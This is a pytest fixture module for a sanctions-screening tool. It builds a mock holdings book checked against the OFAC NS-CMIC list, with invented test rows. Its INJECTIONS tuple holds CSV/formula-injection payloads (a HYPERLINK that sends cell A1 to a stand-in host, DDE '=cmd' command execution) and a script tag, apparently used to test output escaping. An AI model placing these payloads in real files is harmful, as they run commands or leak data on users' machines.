"""A ScreeningRun built by hand from the model's types: every kind of end that a row can have, in a small book."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from datetime import date
from decimal import Decimal
from typing import Any

import pandas as pd
import pytest

from cmic_screen import __version__, positions
from cmic_screen.intake import ColumnUse, DataIssue, InputFile, Intake, RowProblem, SetAside, SheetReading
from cmic_screen.model import (
    Action,
    Basis,
    DecisionOnMatch,
    EntityName,
    EntityTicker,
    EvidenceKind,
    EvidenceResult,
    Finding,
    InstrumentKind,
    JudgedMatch,
    Judgement,
    ListedEntity,
    ListSnapshot,
    Match,
    MatchEvidence,
    NameKind,
    NearestName,
    Origin,
    Phase,
    RejectedIdentifier,
    Relation,
    Ruling,
    Scheme,
    Security,
    SecurityIdentifier,
    SourceRef,
    UsPerson,
    Verdict,
)
from cmic_screen.run import ExposureLine, Money, ProgrammeState, Qualification, ScreeningRun, Totals

LONG_GERMAN = "Rückversicherungs- und Vermögensverwaltungsgesellschaft Süddeutschland Beteiligungs-Aktiengesellschaft"
LONG_CHINESE = "中国国际海洋石油工程勘探开发技术服务股份有限公司二〇三一年到期高级无抵押担保债券"
INJECTIONS = (
    '=HYPERLINK("http://example.invalid/"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "Bell\x07 and null\x00 Inc",
    "<script>alert(1)</script> & Co",
)
ANNEX = (date(2021, 6, 3), date(2021, 8, 2), date(2022, 6, 3))
LATER = (date(2021, 12, 16), date(2022, 2, 14), date(2022, 12, 16))
FUTURE = (date(2026, 11, 2), date(2027, 1, 1), date(2027, 11, 2))
CLOSED_PROHIBITED = (
    "Any purchase, dividend reinvestment included: switch it off.",
    "Any sale, to exit included, without an OFAC specific licence.",
)
CLOSED_PERMITTED = ("Holding, cash dividends and splits.",)
CITATIONS = ("E.O. 13959 as amended s.1(a)", "FAQ 1046")


def entity(
    uid: str,
    name: str,
    dates: tuple[date, date, date] = ANNEX,
    names: tuple[tuple[str, NameKind], ...] = (),
    isin: str = "",
    ticker: str = "",
    basis: str = "",
) -> ListedEntity:
    code, _, country = ticker.partition(" ")
    statement = basis or "Named in the annex of E.O. 14032 of 3 June 2021; the order states no reason for each name."
    return ListedEntity(
        uid=uid,
        names=(EntityName(text=name, kind=NameKind.PRIMARY), *(EntityName(text=t, kind=k) for t, k in names)),
        identifiers=(SecurityIdentifier(scheme=Scheme.ISIN, value=isin),) if isin else (),
        tickers=(EntityTicker(text=ticker, code=code, country=country),) if ticker else (),
        listed=dates[0],
        effective=dates[1],
        divestment_ends=dates[2],
        target_type="Public Company",
        programmes=("CMIC-EO13959",),
        legal_authority=("Executive Order 13959 (NS-CMIC)",),
        countries=("CN",),
        basis=Basis(text=statement, source="86 FR 30145", stated_on=dates[0]),
    )


BIOMETRIC = (
    "Treasury stated on 16 December 2021 that the company supports the biometric surveillance and tracking of ethnic "
    "and religious minorities in China, particularly the predominantly Muslim Uyghurs in Xinjiang."
)
MOBILE = entity(
    "30946", "China Mobile Limited", names=(("China Mobile Communications", NameKind.WEAK),),
    isin="HK0941009539", ticker="941 HK",
)  # fmt: skip
HIK = entity("30940", "Hangzhou Hikvision Digital Technology Co., Ltd.", isin="CNE100000PM8", ticker="002415 CN")
CNOOC = entity("30925", "CNOOC Limited", isin="HK0883013259", ticker="883 HK")
DJI = entity("33111", "SZ DJI Technology Co., Ltd.", LATER, basis=BIOMETRIC.replace("biometric", "drone"))
MEIYA = entity("33896", "Xiamen Meiya Pico Information Co., Ltd.", LATER, isin="CNE1000010N4", basis=BIOMETRIC)
SMIC = entity("30960", "Semiconductor Manufacturing International Corporation", isin="KYG8020E1199", ticker="981 HK")
SENSE = entity("33114", "SenseTime Group Limited", (date(2021, 12, 10), date(2022, 2, 8), date(2022, 12, 10)))
NEXT = entity("99001", "Invented Future Systems Co., Ltd.", FUTURE)
ENTITIES = (MOBILE, HIK, CNOOC, DJI, MEIYA, SMIC, SENSE, NEXT)


def judged(
    listed: ListedEntity,
    verdict: Verdict,
    evidence: tuple[MatchEvidence, ...],
    *,
    relation: Relation = Relation.ISSUER,
    phase: Phase = Phase.CLOSED,
    ruling: Ruling = Ruling.PERMITTED_HOLD,
    sub: str = "",
    decision: DecisionOnMatch | None = None,
    reason: str = "",
) -> JudgedMatch:
    match = Match(entity=listed, relation=relation, evidence=evidence, score=evidence[0].score, reason=reason)
    return JudgedMatch(
        match=match, phase=phase, ruling=ruling, verdict=verdict, sub_reason=sub, decision=decision
    )  # fmt: skip


def ev(kind: EvidenceKind, searched: str, found: str, **kw: Any) -> MatchEvidence:
    return MatchEvidence(kind=kind, searched=searched, found=found, **kw)


@dataclass
class Case:
    """One row of the book: what it holds and how it was judged."""

    security: Security
    judgement: Judgement
    account: str = "ACC-1"
    quantity: str = "1000"
    value: str = "12345.60"
    currency: str = "USD"
    repairs: tuple[tuple[str, str, str, str], ...] = ()
    cells: str = ""
    nearest: tuple[NearestName, ...] = ()
    flags: str = ""
    us: UsPerson = UsPerson.UNKNOWN
    action: Action = Action.HOLD
    extra: dict[str, str] = field(default_factory=dict)


def security(name: str, print_: str, *ids: tuple[Scheme, str], issuer: str = "", **kw: Any) -> Security:
    return Security(
        issuer_name=issuer,
        security_name=name,
        identifiers=tuple(SecurityIdentifier(scheme=s, value=v) for s, v in ids),
        fingerprint=print_,
        instrument=kw.pop("instrument", InstrumentKind.SHARE),
        **kw,
    )


def prohibited(listed: ListedEntity, *evidence: MatchEvidence, relation: Relation = Relation.ISSUER) -> Judgement:
    return Judgement(
        verdict=Verdict.PROHIBITED,
        matches=(judged(listed, Verdict.PROHIBITED, evidence, relation=relation),),
        ruling=Ruling.PERMITTED_HOLD,
        reason=f"The issuer is {listed.name} (OFAC uid {listed.uid}), on the NS-CMIC List; the window has closed.",
        permitted=CLOSED_PERMITTED,
        prohibited=CLOSED_PROHIBITED,
        citations=CITATIONS,
    )


def clear(by: str = "identifier") -> Judgement:
    return Judgement(
        verdict=Verdict.CLEAR, matches=(), ruling=None, cleared_by=by,
        reason="No listed entity matches the stated identifier or name.",
    )  # fmt: skip


DISMISSAL = DecisionOnMatch(
    id="D-0001", fingerprint="fp-costar", uid="30925", conclusion="false-positive",
    reason="Different company: real estate data, Washington DC; LEI compared.", by="ana", on="2026-10-03",
    until=date(2027, 10, 3), signed_by="bo", evidence_digest="ab" * 32,
)  # fmt: skip


def prohibited_cases() -> list[Case]:
    """One listed company in five guises: by ISIN, by ADR's CUSIP, by ticker, by Chinese name, as a bond, in a fund."""
    ident, exact = EvidenceKind.IDENTIFIER, EvidenceKind.NAME_EXACT
    return [
        Case(
            security("CHINA MOBILE LTD", "fp-mob-h", (Scheme.ISIN, "HK0941009539"), currency="HKD", country="HK",
                     ticker="941", mic="XHKG"),
            prohibited(MOBILE, ev(ident, "HK0941009539", "HK0941009539", detail="stated ISIN equals OFAC's"),
                       ev(EvidenceKind.NAME_NO_LEGAL_FORM, "CHINA MOBILE LTD", "China Mobile Limited", score=1.0)),
            quantity="250000", value="19875000", currency="HKD",
        ),
        Case(
            security("China Mobile Ltd Spon ADR", "fp-mob-adr", (Scheme.CUSIP, "16941M109"),
                     instrument=InstrumentKind.RECEIPT),
            prohibited(MOBILE, ev(ident, "16941M109", "16941M109", source="securities master: depositary's notice")),
            quantity="1200", value="61400.25", account="ACC-2",
        ),
        Case(
            security("中国移动", "fp-mob-cn", issuer="中国移动有限公司", ticker="600941", mic="XSHG", currency="CNY"),
            prohibited(MOBILE, ev(EvidenceKind.TICKER, "600941 XSHG", "600941 XSHG", source="securities master"),
                       ev(exact, "中国移动有限公司", "中国移动有限公司", source="securities master: registered name")),
            quantity="8800", value="942480.00", currency="CNY", account="ACC-3",
        ),
        Case(
            security(LONG_CHINESE, "fp-cnooc-bond", (Scheme.ISIN, "USQ25738AA54"), issuer="CNOOC Limited",
                     instrument=InstrumentKind.BOND),
            prohibited(CNOOC, ev(exact, "CNOOC Limited", "CNOOC Limited")),
            quantity="500000", value="-487125.50", account="ACC-2",
        ),
        Case(
            security("Emerging Markets Index Fund", "fp-fund", (Scheme.ISIN, "IE00B4L5YC18"),
                     instrument=InstrumentKind.FUND, currency="EUR"),
            prohibited(SMIC, ev(EvidenceKind.CONSTITUENT, "Semiconductor Manufacturing Intl Corp", SMIC.name,
                                detail="1.24 % of the fund on 2026-10-31"), relation=Relation.FUND_EXPOSURE),
            quantity="410.125", value="17020.19", currency="EUR",
        ),
        Case(
            security("HIKVISION CALL WARRANT", "fp-hik-w", (Scheme.SEDOL, "BD5M1N2"),
                     instrument=InstrumentKind.WARRANT),
            prohibited(HIK, ev(EvidenceKind.UNDERLYING, "HIKVISION", HIK.name), relation=Relation.DERIVATIVE),
            quantity="-5000", value="-7550.00", currency="GBP",
        ),
    ]  # fmt: skip


def other_cases() -> list[Case]:
    similar = EvidenceKind.NAME_SIMILAR
    uncertain = Relation.UNCERTAIN
    return [
        Case(
            security("CNOOC Ltd Engineering " + LONG_GERMAN, "fp-review", country="DE"),
            Judgement(
                verdict=Verdict.REVIEW,
                matches=(
                    judged(CNOOC, Verdict.REVIEW, (
                        ev(similar, "CNOOC Ltd Engineering", "CNOOC Limited", score=0.8734, weight=0.7,
                           detail="shares the rare word CNOOC"),
                        ev(EvidenceKind.COUNTRY, "DE", "HK", score=0.0, weight=0.1,
                           result=EvidenceResult.CONTRADICTS),
                    ), relation=uncertain, ruling=Ruling.REVIEW, reason="similar name only"),
                    judged(SMIC, Verdict.REVIEW, (ev(similar, "CNOOC Ltd Engineering", SMIC.name, score=0.612),),
                           relation=uncertain, ruling=Ruling.REVIEW, reason="similar name only"),
                ),
                ruling=Ruling.REVIEW,
                reason="The name resembles two listed names and no identifier settles it.",
                citations=("FAQ 901",),
            ),
            currency="EUR", value="88000",
        ),
        Case(
            Security(security_name="HIKVISION DIGITAL-A", fingerprint="fp-restored", ticker="2415",
                     identifiers=(SecurityIdentifier(scheme=Scheme.CUSIP, value="037833100", origin=Origin.RESTORED),),
                     rejected=(RejectedIdentifier(scheme=Scheme.ISIN, text="CNE100000PM9", fault="check digit"),)),
            Judgement(
                verdict=Verdict.REVIEW,
                matches=(judged(HIK, Verdict.REVIEW, (ev(similar, "HIKVISION DIGITAL-A", HIK.name, score=0.93),),
                                relation=uncertain, ruling=Ruling.REVIEW),),
                ruling=Ruling.REVIEW, reason="A similar name; the ISIN stated has a wrong check digit.",
                citations=("FAQ 901",),
            ),
            repairs=(("cusip", "37833100", "037833100", "leading zero put back, check digit passes"),),
        ),
        Case(
            security("SZ DJI private interest", "fp-dji", instrument=InstrumentKind.PRIVATE),
            Judgement(verdict=Verdict.REVIEW,
                      matches=(judged(DJI, Verdict.REVIEW, (ev(EvidenceKind.NAME_EXACT, "SZ DJI", DJI.name),)),),
                      ruling=Ruling.REVIEW, reason="No publicly traded security of this issuer is known.",
                      citations=("E.O. 13959 as amended s.3(c)",)),
            value="",
        ),
        Case(
            security("INVENTED FUTURE SYS H", "fp-next"),
            Judgement(
                verdict=Verdict.UPCOMING,
                matches=(judged(NEXT, Verdict.UPCOMING, (ev(EvidenceKind.NAME_EXACT, "INVENTED", NEXT.name),),
                                phase=Phase.PENDING, ruling=Ruling.PERMITTED),),
                ruling=Ruling.PERMITTED, reason="Listed; the prohibition is not yet in effect.",
                permitted=("Dealing is lawful until 2027-01-01, 00:01 New York.",),
                citations=("E.O. 13959 as amended s.1(b)",),
            ),
            currency="JPY", value="1250000",
        ),
        Case(
            security("SenseTime Group Inc CL B", "fp-sense", (Scheme.ISIN, "KYG8062L1041")),
            Judgement(
                verdict=Verdict.PERMITTED,
                matches=(judged(SENSE, Verdict.PERMITTED, (ev(similar, "SenseTime Group Inc", SENSE.name, score=0.91),),
                                relation=Relation.RELATED_UNLISTED, phase=Phase.NOT_LISTED, ruling=Ruling.PERMITTED,
                                sub="related_unlisted"),),
                ruling=Ruling.PERMITTED, reason="Not listed; the 50 percent rule does not apply.",
                citations=("FAQ 857", "31 CFR 586.404"),
            ),
            us=UsPerson.NO,
        ),
        Case(
            security("CoStar Group Inc", "fp-costar"),
            Judgement(
                verdict=Verdict.PERMITTED,
                matches=(judged(CNOOC, Verdict.PERMITTED, (ev(similar, "CoStar Group", CNOOC.name, score=0.71),),
                                relation=uncertain, ruling=Ruling.REVIEW, sub="dismissed", decision=DISMISSAL),),
                ruling=Ruling.PERMITTED, reason="Dismissed by a decision in force.", citations=("FAQ 901",),
            ),
        ),
        Case(
            Security(fingerprint="fp-blank"),
            Judgement(verdict=Verdict.UNSCREENED, matches=(), ruling=None, flags=("NO_NAME_NO_IDENTIFIER",),
                      reason="The row has neither a usable name nor a valid identifier."),
            cells="| ??? | 12 |",
        ),
        Case(
            security("US DOLLAR CASH", "fp-cash", instrument=InstrumentKind.CASH),
            Judgement(verdict=Verdict.SET_ASIDE, matches=(), ruling=None, reason="Cash is not a security."),
            value="100000.00",
        ),
    ]  # fmt: skip


def filler(n: int) -> list[Case]:
    """Ordinary rows: cleared, two in three by identifier."""
    near = (NearestName(uid="30946", name="China Mobile Limited", score=0.31, why_not="below the floor of 0.60"),)
    out = []
    for i in range(n):
        by_id = i % 3 != 0
        ids = ((Scheme.ISIN, f"US{i:09d}{i % 10}"),) if by_id else ()
        out.append(
            Case(
                security(f"Ordinary Company {i % 997} Inc", f"fp-{i % 997}-{by_id}", *ids),
                _CLEAR_ID if by_id else _CLEAR_NAME,
                account=f"ACC-{i % 3 + 1}",
                quantity=str(100 + i),
                value=f"{1000 + i}.50",
                currency=("USD", "EUR", "GBP", "HKD", "JPY")[i % 5],
                nearest=near,
            )
        )
    return out


_CLEAR_ID, _CLEAR_NAME = clear("identifier"), clear("name")


def injected() -> list[Case]:
    return [
        Case(security(text, f"fp-inj-{i}", issuer=text), _CLEAR_NAME, account=text, cells=text)
        for i, text in enumerate(INJECTIONS)
    ]


def line_of(case: Case, file: str, sheet: str, row: int) -> dict[str, Any]:
    repairs = [dict(zip(("field", "before", "after", "rule"), r, strict=True)) for r in case.repairs]
    ids = {i.scheme.value: i.value for i in case.security.identifiers if i.scheme.value in positions.WHAT}
    cells = case.cells or " | ".join(
        (case.account, case.security.security_name, *ids.values(), case.quantity, case.value, case.currency)
    )
    return {
        "file": file, "sheet": sheet, "row": row, "account_id": case.account, "issuer": case.security.issuer_name,
        "security_name": case.security.security_name, "ticker": case.security.ticker, "currency": case.currency,
        "quantity": case.quantity, "market_value": case.value, "cells": cells,
        "repairs": json.dumps(repairs) if repairs else "", "flags": case.flags, **ids, **case.extra,
    }  # fmt: skip


PROBLEM = RowProblem(
    source=SourceRef(file="book.xlsx", sheet="Holdings", row=3),
    code="FORMULA_WITHOUT_VALUE",
    text="The row's name is a formula that holds no value.",
    cells=("ACC-1", "=VLOOKUP(A2)", "", "100"),
    do="Open the file in a spreadsheet program, save it, and screen it again.",
)
ASIDE = SetAside(
    source=SourceRef(file="book.xlsx", sheet="Holdings", row=2), reason="total", text="Total | 19,875,000", value="1",
    currency="USD",
)  # fmt: skip


def run_of(cases: list[Case], *, problems: bool = True, **changes: Any) -> ScreeningRun:
    """A run over `cases`, one row each from row 4 of one sheet; `changes` replace fields of the run."""
    file, sheet, first = "book.xlsx", "Holdings", 4
    table = positions.frame([line_of(c, file, sheet, first + i) for i, c in enumerate(cases)])
    judgements: list[Judgement] = []
    known: dict[int, int] = {}
    for c in cases:
        if id(c.judgement) not in known:
            known[id(c.judgement)] = len(judgements)
            judgements.append(c.judgement)
    broken = (PROBLEM,) if problems else ()
    refs, findings, number = [], [], 0
    if problems:
        number = 1
        judgement = Judgement(
            verdict=Verdict.UNSCREENED, matches=(), ruling=None, reason=PROBLEM.text, flags=(PROBLEM.code,)
        )
        findings.append(
            Finding(ref="F-001", source=PROBLEM.source, security=Security(), judgement=judgement, cells=PROBLEM.cells)
        )
    for c in cases:
        quiet = c.judgement.verdict in (Verdict.CLEAR, Verdict.SET_ASIDE)
        number += not quiet
        refs.append("" if quiet else f"F-{number:03d}")
    outcomes = pd.DataFrame(
        {
            "verdict": [c.judgement.verdict.name for c in cases],
            "ref": refs,
            "fingerprint": [c.security.fingerprint for c in cases],
            "judgement": [known[id(c.judgement)] for c in cases],
            "cleared_by": [c.judgement.cleared_by for c in cases],
            "action": [c.action.value for c in cases],
            "us_person": [c.us.value for c in cases],
            "trade_at": ["" for _ in cases],
        }
    )
    aside = (ASIDE,) if problems else ()
    reading = SheetReading(
        name=sheet, used=True, header_row=1,
        columns=(
            ColumnUse(field="account_id", header="Account", column=1, reason="header"),
            ColumnUse(field="security_name", header="Security", column=2, confidence=0.9, reason="header and content"),
            ColumnUse(field="market_value", header="Value", column=5, also="quantity", reason="largest numbers"),
            ColumnUse(field="", header="Colour", column=6),
        ),
        rows_read=1 + len(cases) + len(aside) + len(broken), headers=1, positions=len(cases), set_aside=len(aside),
        problems=len(broken), hidden="2 rows",
        total_checks=(("Total", "1000.00", "1000.00", "USD"),),
    )  # fmt: skip
    inputs = (
        InputFile(file=file, sha256="11" * 32, bytes=20480, format="xlsx",
                  sheets=(reading, SheetReading(name="Cover", used=False, why_not="no table of positions"))),
    )  # fmt: skip
    intake = Intake(
        table=table, inputs=inputs, set_aside=aside, problems=broken, as_of="2026-10-31",
        issues=(
            DataIssue(code="UNMAPPED_COLUMN", text="A column was not used.", file=file, sheet=sheet, rows=len(cases),
                      examples=("Colour", "=1+1"), done="kept, not used", effect="none on the verdicts"),
        ),
    )  # fmt: skip
    counts = {v: sum(c.judgement.verdict is v for c in cases) for v in Verdict}
    fields: dict[str, Any] = {
        "tool_version": __version__,
        "run_id": "2026-11-22-a1b2c3",
        "created_at": "2026-11-22T12:00:00Z",
        "as_of": date(2026, 11, 22),
        "kind": "holdings",
        "command": "cmic-screen screen book.xlsx --as-of 2026-11-22",
        "intake": intake,
        "snapshot": ListSnapshot(
            publisher="OFAC", published=date(2026, 1, 8), retrieved_at="2026-01-09T08:00:00Z", sha256="22" * 32,
            source="cons_enhanced.xml", format="ENHANCED_XML", entities=ENTITIES, digest="33" * 32, embedded=True,
        ),
        "list_age_days": 318,
        "list_stale": True,
        "programme": ProgrammeState(version="2026.1", sha256="44" * 32, in_force=True,
                                    confirmed_through=date(2026, 11, 12), source="Continuation notice of 2025"),
        "master_sha256": "55" * 32,
        "master_rows": 412,
        "outcomes": outcomes,
        "judgements": tuple(judgements),
        "securities": {c.security.fingerprint: c.security for c in cases},
        "nearest": {c.security.fingerprint: c.nearest for c in cases if c.nearest},
        "findings": (),
        "qualifications": (
            Qualification(code="LIST_STALE", text="No match to the list published 2026-01-08; currency not confirmed."),
        ),
        "decisions": (DISMISSAL,) if any(c.security.fingerprint == "fp-costar" for c in cases) else (),
        "exposure": (
            ExposureLine(ref="F-006", fund="Emerging Markets Index Fund", fund_identifier="IE00B4L5YC18", uid="30960",
                         entity=SMIC.name, constituent="Semiconductor Manufacturing Intl Corp", weight_pct="1.24",
                         source="fund_holdings.csv", as_of="2026-10-31", age_days=22, sha256="66" * 32,
                         state="complete"),
        ) if any(c.security.fingerprint == "fp-fund" for c in cases) else (),
    }  # fmt: skip
    fields["totals"] = totals_of(cases, counts, len(broken), len(aside), reading.rows_read)
    fields.update(changes)
    blank = ScreeningRunDraft(fields)
    findings.extend(finding for finding in blank.row_findings() if finding.ref)
    fields["findings"] = tuple(findings)
    return ScreeningRun(**fields)


class ScreeningRunDraft:
    """The fields of a run before its findings are known: only to walk the rows once."""

    def __init__(self, fields: dict[str, Any]) -> None:
        self.__dict__.update(fields)

    row_findings = ScreeningRun.row_findings


def totals_of(cases: list[Case], counts: dict[Verdict, int], broken: int, aside: int, rows: int) -> Totals:
    money: dict[str, dict[str, Decimal]] = {}
    for c in cases:
        if not c.value:
            continue
        per = money.setdefault(c.currency, {"all": Decimal(), "prohibited": Decimal(), "review": Decimal()})
        per["all"] += Decimal(c.value)
        name = c.judgement.verdict.name.lower()
        if name in per:
            per[name] += Decimal(c.value)
    return Totals(
        rows_read=rows, headers=1, positions=len(cases), continuations=0, set_aside_rows=aside, problems=broken,
        prohibited=counts[Verdict.PROHIBITED], permitted=counts[Verdict.PERMITTED],
        dismissed=sum(m.sub_reason == "dismissed" for c in cases for m in c.judgement.matches),
        upcoming=counts[Verdict.UPCOMING], unscreened=counts[Verdict.UNSCREENED] + broken,
        review=counts[Verdict.REVIEW], set_aside=counts[Verdict.SET_ASIDE], clear=counts[Verdict.CLEAR],
        distinct_securities=len({c.security.fingerprint for c in cases}),
        market_value={k: Money(**{n: str(v) for n, v in per.items()}) for k, per in sorted(money.items())},
    )  # fmt: skip


@pytest.fixture(scope="session")
def run() -> ScreeningRun:
    """A small book with every kind of end in it."""
    return run_of([*prohibited_cases(), *other_cases(), *filler(40), *injected()])


@pytest.fixture(scope="session")
def small_run() -> ScreeningRun:
    """The same in little, where the whole book is not needed."""
    return run_of([*prohibited_cases()[:2], *other_cases()[:2], *filler(6)])


@pytest.fixture(scope="session")
def clean_run() -> ScreeningRun:
    """A book with nothing in it, on a fresh list."""
    return run_of(filler(12), problems=False, qualifications=(), list_stale=False, list_age_days=1)


@pytest.fixture(scope="session")
def make_run() -> Any:
    """`make_run(findings, rows)`: a book of any size, for sizes and speed."""

    def make(findings: int, rows: int, **changes: Any) -> ScreeningRun:
        cases = prohibited_cases() + other_cases()[:6]
        many = [cases[i % len(cases)] for i in range(findings)]
        return run_of([*many, *filler(rows - findings)], **changes)

    return make
